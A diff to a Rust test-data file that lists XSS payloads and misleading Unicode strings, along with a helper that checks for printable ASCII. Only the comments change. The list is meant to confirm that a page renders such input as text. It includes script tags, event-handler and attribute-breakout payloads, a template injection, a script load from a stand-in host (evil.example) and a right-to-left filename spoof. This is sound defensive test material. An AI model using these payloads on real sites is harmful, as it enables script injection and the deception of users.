@@ -1,9 +1,9 @@
-//! What people write who want a page to run their code, and what confuses a reader: everything here must end as text.
+//! Texts that try to run a script in the page or to mislead a reader. The page must show all of them as text.
 //!
-//! After the collections of OWASP and PortSwigger; each would call `alert` or set `__xss` where it ran.
+//! Taken from the collections of OWASP and PortSwigger. Each would call `alert` or set `__xss` if it were executed.
 
 pub const PAYLOADS: &[&str] = &[
-    // Elements that run by themselves.
+    // Elements that execute on their own.
     "<script>alert(1)</script>",
     "<SCRIPT>alert(1)</SCRIPT>",
     "<script src=//evil.example/x.js></script>",
@@ -35,7 +35,7 @@ pub const PAYLOADS: &[&str] = &[
     "<portal src=javascript:alert(1)>",
     "<template><script>alert(1)</script></template>",
     "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    // Handlers of events.
+    // Event handlers.
     "<img src=x onerror=alert(1)>",
     "<img src=x onerror=window.__xss=1>",
     "<IMG SRC=x ONERROR=alert(1)>",
@@ -74,7 +74,7 @@ pub const PAYLOADS: &[&str] = &[
     "<keygen autofocus onfocus=alert(1)>",
     "<meter value=2 min=0 max=10 onmouseover=alert(1)>2</meter>",
     "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>",
-    // Out of an attribute, a comment, a tag, a text.
+    // Texts that leave an attribute, a comment, a tag or a text node.
     "\" onmouseover=\"alert(1)",
     "' onmouseover='alert(1)",
     "\" autofocus onfocus=alert(1) x=\"",
@@ -143,7 +143,7 @@ pub const PAYLOADS: &[&str] = &[
     "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>",
     "<div data-testid=record data-offset=0></div>",
     "<div id=topic></div>",
-    // What confuses readers: directions, marks, what cannot be seen.
+    // Texts that mislead readers: bidirectional and combining characters, invisible characters.
     "\u{202e}gpj.exe",
     "\u{2066}right\u{2069} \u{202d}left\u{202c}",
     "abc\u{200f}\u{202e}<script>alert(1)</script>",
@@ -170,7 +170,7 @@ pub const PAYLOADS: &[&str] = &[
     "\u{10ffff}\u{1f309}",
 ];
 
-/// Whether a reader sees it letter by letter: nothing in it is drawn as a sign of its own, or folded by a line of text.
+/// Whether each character is visible as itself: printable ASCII only.
 pub fn is_plain(payload: &str) -> bool {
     payload.chars().all(|c| c.is_ascii_graphic() || c == ' ')
 }
